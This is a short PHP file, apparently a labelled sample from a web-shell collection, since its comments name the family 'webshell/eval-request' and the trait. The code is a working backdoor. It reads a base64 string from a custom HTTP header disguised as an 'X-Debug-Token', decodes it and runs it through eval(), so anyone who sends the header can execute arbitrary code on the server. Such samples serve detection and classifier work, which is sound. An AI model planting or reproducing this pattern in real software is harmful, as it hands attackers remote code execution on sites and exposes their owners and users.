<?php
// Family: webshell/eval-request
// Style: header-carried code
// Trait: code taken from a custom HTTP request header through the server array
$h = isset($_SERVER['HTTP_X_DEBUG_TOKEN']) ? $_SERVER['HTTP_X_DEBUG_TOKEN'] : '';
if ($h) eval(base64_decode($h));
